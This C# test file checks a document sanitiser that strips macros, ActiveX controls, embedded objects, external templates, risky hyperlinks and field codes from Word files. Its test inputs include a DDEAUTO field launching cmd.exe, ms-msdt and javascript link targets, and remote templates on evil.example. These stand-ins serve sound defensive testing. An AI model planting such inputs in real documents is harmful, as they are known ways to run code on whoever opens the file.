using Sekisho.Kernel;
using Sekisho.Tests.Sanitizing.Files;
using Sekisho.Tests.Support;

namespace Sekisho.Tests.Sanitizing.Office;

public class WordTests
{
    private const string Text = "令和8年度予算の要求について";

    private static string Document(byte[] output) => OfficeOutput.Text(output, "word/document.xml");

    [Fact, MatrixRow("OX-00", NearMiss = true)]
    public void A_harmless_document_stays_clean_with_its_text()
    {
        var result = SomeFile.Sanitise("予算.docx", SomeOffice.Docx(SomeOffice.P(Text) + "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w=\"100\"/></w:tblGrid><w:tr><w:tc>" + SomeOffice.P("表") + "</w:tc></w:tr></w:tbl>").Build());
        result.Outcome.ShouldBe(Outcome.Clean, result.Describe());
        result.OutputName.ShouldBe("予算.docx");
        Document(result.Output!).ShouldContain(Text);
        Document(result.Output!).ShouldContain("<w:tbl>");
    }

    [Theory, MatrixRow("OX-01"), InlineData("word/vbaProject.bin", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"), InlineData("word/thing.bin", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image")]
    public void A_macro_project_goes_under_any_name(string part, string type)
    {
        byte[] project = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600], .. System.Text.Encoding.Unicode.GetBytes("VBA"), .. System.Text.Encoding.ASCII.GetBytes("AutoOpen")];
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(SomeOffice.P(Text)).Part(part, project).MainRel("rId9", type, part[5..]).Build());
        result.Has("OX-01").ShouldBeTrue(result.Describe());
        result.Outcome.ShouldBe(Outcome.Cleaned);
        OfficeOutput.All(result.Output!).ShouldNotContain("AutoOpen");
    }

    [Fact, MatrixRow("OX-01", "ID-03")]
    public void A_macro_flavour_becomes_the_plain_one_and_a_lying_name_blocks()
    {
        var docm = SomeOffice.Docx(SomeOffice.P(Text), "application/vnd.ms-word.document.macroEnabled.main+xml").Build();
        var result = SomeFile.Sanitise("a.docm", docm);
        result.OutputName.ShouldBe("a.docx");
        OfficeOutput.Text(result.Output!, "[Content_Types].xml").ShouldNotContain("macroEnabled");
        SomeFile.Sanitise("a.docx", docm).ShouldStopWith("ID-03");
    }

    [Fact, MatrixRow("OX-03")]
    public void Controls_go_and_the_words_around_stay()
    {
        var body = "<w:p><w:r><w:t>申請者</w:t></w:r><w:r><w:object><v:shape id=\"s1\" type=\"#t\"/><w:control r:id=\"rId5\" w:name=\"CommandButton1\" w:shapeid=\"s1\"/></w:object></w:r></w:p>";
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(body).Part("word/activeX/activeX1.xml", "<ax/>").MainRel("rId5", "control", "activeX/activeX1.xml").Build());
        result.Has("OX-03").ShouldBeTrue(result.Describe());
        OfficeOutput.All(result.Output!).ShouldNotContain("activeX");
        Document(result.Output!).ShouldContain("申請者");
    }

    [Fact, MatrixRow("OX-04")]
    public void An_embedded_object_goes_and_its_preview_stays_as_a_picture()
    {
        var body = "<w:p><w:r><w:object><v:shape id=\"s1\" style=\"width:10pt\"><v:imagedata r:id=\"rId6\" o:title=\"\"/></v:shape><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rId5\"/></w:object></w:r></w:p>";
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(body).Part("word/embeddings/oleObject1.bin", "evil payload"u8.ToArray()).Part("word/media/image1.png", SomePicture.Png())
            .MainRel("rId5", "oleObject", "embeddings/oleObject1.bin").MainRel("rId6", "image", "media/image1.png").Build());
        result.Has("OX-04").ShouldBeTrue(result.Describe());
        OfficeOutput.All(result.Output!).ShouldNotContain("evil payload");
        Document(result.Output!).ShouldContain("v:imagedata r:id=\"rId1\"");
        OfficeOutput.Parts(result.Output!).Keys.ShouldContain("word/media/image1.png");
    }

    [Theory, MatrixRow("OX-06"),
     InlineData("attachedTemplate", "https://evil.example/t.dotm"), InlineData("image", "https://evil.example/x.png"), InlineData("oleObject", "\\\\evil\\share\\x"), InlineData("subDocument", "//evil.example/x"), InlineData("frame", "file:///c:/x")]
    public void External_references_go_with_or_without_the_mode(string type, string target)
    {
        foreach (var external in (bool[])[true, false])
        {
            var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(SomeOffice.P(Text)).MainRel("rId5", type, target, external).Build());
            (result.Has("OX-06") || result.Has("OX-05")).ShouldBeTrue(result.Describe());
            OfficeOutput.All(result.Output!).ShouldNotContain("evil");
        }
    }

    [Fact, MatrixRow("OX-06", "OX-17")]
    public void The_template_in_the_settings_part_goes_too()
    {
        var office = SomeOffice.Docx(SomeOffice.P(Text)).Part("word/settings.xml", $"<w:settings xmlns:w=\"{SomeOffice.W}\" xmlns:r=\"{SomeOffice.Office.TrimEnd('/')}\"><w:zoom w:percent=\"100\"/><w:attachedTemplate r:id=\"rId1\"/></w:settings>", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")
            .MainRel("rId5", "settings", "settings.xml").Rel("word/settings.xml", "rId1", SomeOffice.Office + "attachedTemplate", "http://evil.example/t.dotm", true);
        var result = SomeFile.Sanitise("a.docx", office.Build());
        result.Has("OX-06").ShouldBeTrue(result.Describe());
        OfficeOutput.All(result.Output!).ShouldNotContain("evil");
        OfficeOutput.Text(result.Output!, "word/settings.xml").ShouldContain("w:zoom");
    }

    [Theory, MatrixRow("OX-07"),
     InlineData("javascript:alert(1)"), InlineData("java&#9;script:alert(1)"), InlineData("file:///c:/windows/x.exe"), InlineData("\\\\host@SSL\\DavWWWRoot\\x"), InlineData("ms-msdt:/id"), InlineData("search-ms:query=x"), InlineData("%66ile:///c:/x"), InlineData("ftp://h/x"), InlineData("data:text/html,x")]
    public void Links_of_other_kinds_go_and_their_words_stay(string target)
    {
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx("<w:p><w:hyperlink r:id=\"rId7\"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>").MainRel("rId7", "hyperlink", target, true).Build());
        result.Has("OX-07").ShouldBeTrue(result.Describe());
        Document(result.Output!).ShouldContain("こちら");
        Document(result.Output!).ShouldNotContain("w:hyperlink");
        OfficeOutput.Parts(result.Output!).Keys.ShouldNotContain("word/_rels/document.xml.rels");
    }

    [Theory, MatrixRow("OX-07", NearMiss = true), InlineData("https://www.city.example.jp/a?b=c&amp;d=%E3%81%82"), InlineData("mailto:soumu@city.example.jp"), InlineData("http://example.jp/")]
    public void Ordinary_links_stay(string target)
    {
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx("<w:p><w:hyperlink r:id=\"rId7\"><w:r><w:t>こちら</w:t></w:r></w:hyperlink></w:p>").MainRel("rId7", "hyperlink", target, true).Build());
        result.Outcome.ShouldBe(Outcome.Clean, result.Describe());
        OfficeOutput.Text(result.Output!, "word/_rels/document.xml.rels").ShouldContain(target);
    }

    [Theory, MatrixRow("OX-08"),
     InlineData("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""), InlineData("INCLUDEPICTURE \"http://evil.example/x.png\" \\d"), InlineData("MACROBUTTON AutoRun x"), InlineData("INCLUDETEXT \"\\\\\\\\evil\\\\x\""), InlineData("HYPERLINK \"http://evil.example\""), InlineData("mergefield 氏名")]
    public void A_field_split_over_runs_becomes_its_result(string instruction)
    {
        var half = instruction.Length / 2;
        var body = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> " + Escape(instruction[..half]) + "</w:instrText></w:r><w:r><w:instrText>" + Escape(instruction[half..])
            + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>結果の文字</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(body).Build());
        result.Has("OX-08").ShouldBeTrue(result.Describe());
        var text = Document(result.Output!);
        text.ShouldContain("結果の文字");
        text.ShouldNotContain("instrText");
        text.ShouldNotContain("fldChar");
    }

    [Fact, MatrixRow("OX-08")]
    public void A_field_nested_in_an_instruction_leaves_nothing_of_the_instruction()
    {
        static string Mark(string t) => "<w:r><w:fldChar w:fldCharType=\"" + t + "\"/></w:r>";
        var body = "<w:p>" + Mark("begin") + "<w:r><w:instrText>IF </w:instrText></w:r>" + Mark("begin") + "<w:r><w:instrText>DDE x y</w:instrText></w:r>" + Mark("separate") + "<w:r><w:t>内側</w:t></w:r>" + Mark("end")
            + "<w:r><w:instrText> = 1</w:instrText></w:r>" + Mark("separate") + "<w:r><w:t>外側</w:t></w:r>" + Mark("end") + "</w:p>";
        var text = Document(SomeFile.Sanitise("a.docx", SomeOffice.Docx(body).Build()).Output!);
        text.ShouldContain("外側");
        text.ShouldNotContain("内側");
        text.ShouldNotContain("DDE");
    }

    [Theory, MatrixRow("OX-08", NearMiss = true), InlineData("PAGE"), InlineData(" TOC \\o \"1-3\" \\h \\z \\u "), InlineData("HYPERLINK \\l \"_Toc1\""), InlineData("EQ \\o\\ac(○,印)")]
    public void Fields_that_count_or_refer_inside_stay(string instruction)
    {
        var body = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>" + Escape(instruction) + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(body).Build());
        result.Outcome.ShouldBe(Outcome.Clean, result.Describe());
        Document(result.Output!).ShouldContain(Escape(instruction));
    }

    [Fact, MatrixRow("OX-13", "OX-14", "OX-16", "OX-22", "OX-23")]
    public void Package_level_extras_go()
    {
        var office = SomeOffice.Docx(SomeOffice.P(Text))
            .Part("customUI/customUI.xml", "<customUI onLoad=\"x\"/>").Rel("", "rId2", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml")
            .Part("word/webextensions/taskpanes.xml", "<t/>").Rel("", "rId3", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")
            .Part("customXml/item1.xml", "<secret/>").MainRel("rId4", "customXml", "../customXml/item1.xml")
            .Part("word/printerSettings1.bin", "\\\\printer"u8.ToArray()).MainRel("rId5", "printerSettings", "printerSettings1.bin")
            .Part("_xmlsignatures/origin.sigs", "x").Rel("", "rId6", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs");
        var result = SomeFile.Sanitise("a.docx", office.Build());
        foreach (var rule in (string[])["OX-13", "OX-14", "OX-16", "OX-22", "OX-23"]) result.Has(rule).ShouldBeTrue(rule + " " + result.Describe());
        OfficeOutput.Parts(result.Output!).Keys.ShouldBe(["[Content_Types].xml", "_rels/.rels", "word/document.xml"], ignoreOrder: true);
    }

    [Fact, MatrixRow("OX-15")]
    public void A_document_loaded_on_opening_goes()
    {
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(SomeOffice.P(Text) + "<w:altChunk r:id=\"rId5\"/>").Part("word/afchunk.mht", "<script>").MainRel("rId5", "aFChunk", "afchunk.mht").Build());
        result.Has("OX-15").ShouldBeTrue();
        OfficeOutput.All(result.Output!).ShouldNotContain("script");
    }

    [Fact, MatrixRow("OX-16", NearMiss = true)]
    public void Text_bound_to_data_or_tagged_stays()
    {
        var body = "<w:customXml w:element=\"x\"><w:p><w:r><w:t>本文A</w:t></w:r></w:p></w:customXml><w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/a\" w:storeItemID=\"{1}\"/></w:sdtPr><w:sdtContent>" + SomeOffice.P("本文B") + "</w:sdtContent></w:sdt>";
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(body).Build());
        var text = Document(result.Output!);
        text.ShouldContain("本文A");
        text.ShouldContain("本文B");
        text.ShouldNotContain("dataBinding");
        text.ShouldNotContain("customXml");
    }

    [Fact, MatrixRow("OX-27")]
    public void The_strict_family_is_cleaned_by_the_same_rules()
    {
        var office = SomeOffice.Docx("<w:p><w:r><w:t>本文</w:t></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").MainRel("rId5", "attachedTemplate", "http://evil.example/", true);
        var result = SomeFile.Sanitise("a.docx", office.Zip(strict: true).Build());
        result.Has("OX-08").ShouldBeTrue(result.Describe());
        result.Has("OX-06").ShouldBeTrue();
        var all = OfficeOutput.All(result.Output!);
        all.ShouldContain("本文");
        all.ShouldNotContain("evil");
        all.ShouldNotContain("DDEAUTO");
        all.ShouldNotContain("purl.oclc.org");
    }

    [Fact, MatrixRow("OX-19")]
    public void A_picture_with_something_behind_is_drawn_again()
    {
        var body = "<w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"9\" cy=\"9\"/><wp:docPr id=\"1\" name=\"図\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:nvPicPr><pic:cNvPr id=\"1\" name=\"\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed=\"rId5\" r:link=\"rId6\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";
        var png = SomePicture.Png(8, 6, ("tEXt", "Comment\0geheim"u8.ToArray()));
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx(body).Part("word/media/a.jpeg", png).MainRel("rId5", "image", "media/a.jpeg").MainRel("rId6", "image", "http://evil.example/t.png", true).Build());
        result.Has("IM-03").ShouldBeTrue(result.Describe());
        result.Has("OX-06").ShouldBeTrue();
        var all = OfficeOutput.All(result.Output!);
        all.ShouldNotContain("geheim");
        all.ShouldNotContain("evil");
        Document(result.Output!).ShouldContain("r:embed=\"rId1\"");
        result.Children.ShouldHaveSingleItem().Name.ShouldBe("word/media/a.jpeg");
    }

    [Fact, MatrixRow("E2")]
    public void What_is_not_on_the_list_is_dropped_and_said()
    {
        var result = SomeFile.Sanitise("a.docx", SomeOffice.Docx("<w:p><w:brandNew w:val=\"x\"/><w:r onclick=\"x\"><w:t>本文</w:t></w:r></w:p>").Build());
        result.Has("E2").ShouldBeTrue();
        Document(result.Output!).ShouldNotContain("brandNew");
        Document(result.Output!).ShouldNotContain("onclick");
    }

    private static string Escape(string s) => s.Replace("&", "&amp;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal).Replace("&quot;", "\"", StringComparison.Ordinal);
}
